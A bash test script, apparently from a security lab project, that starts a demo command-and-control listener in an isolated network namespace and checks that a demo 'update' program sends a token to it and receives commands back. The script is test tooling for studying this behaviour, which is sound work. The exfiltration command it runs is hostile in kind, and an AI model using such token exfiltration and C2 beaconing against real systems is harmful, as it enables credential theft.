#!/usr/bin/env bash
# The demo's C2 can live in a network namespace of its own (new_netns: a veth pair, addresses in
# 10.213.0.0/16), so the update's egress goes to a non-loopback address, as in a real
# exfiltration; the namespace and its links are gone after the test.
. "$(dirname "$0")/../lib/common.sh"
. "$TESTLIB/demo.sh"
requires_root
requires_demo
requires_io_uring
requires_cmd ip

new_netns
demo_c2_start 2 "$NETNS_IP" "$NETNS"
assert_eq "$NETNS_IP:$DEMO_C2_PORT" "$DEMO_C2" "C2 address"
# The listener runs in the namespace, not on the host.
[ "$(readlink "/proc/$SPAWNED_PID/ns/net")" != "$(readlink /proc/self/ns/net)" ] ||
	fail "C2 runs in the host network namespace"

demo_token
"$DEMO/update" -token "$DEMO_TOKEN" -c2 "$DEMO_C2" -n 2 -interval 300ms -op send \
	>"$TEST_TMP/update.log" 2>&1 || fail "update: $(cat "$TEST_TMP/update.log")"
demo_wait_frames 2
assert_eq 2 "$(json_count "$DEMO_C2_LOG" "data=$DEMO_TOKEN_VALUE" "peer~$NETNS_HOST_IP:")" \
	"token frames from the host end of the veth"
assert_eq 2 "$(grep -c 'command "sleep"' "$TEST_TMP/update.log")" "commands read back (RECV)"

# Cleanup check, in a nested test: its namespace is gone afterwards.
printf '#!/usr/bin/env bash\n. %q\nnew_netns\necho "$NETNS"\n' "$TESTLIB/common.sh" >"$TEST_TMP/inner"
chmod +x "$TEST_TMP/inner"
ns=$("$TEST_TMP/inner")
[ -n "$ns" ] || fail "inner test made no namespace"
! ip netns list | grep -q "^$ns\\b" || fail "namespace $ns left behind"
echo "ok: C2 in $NETNS at $DEMO_C2"
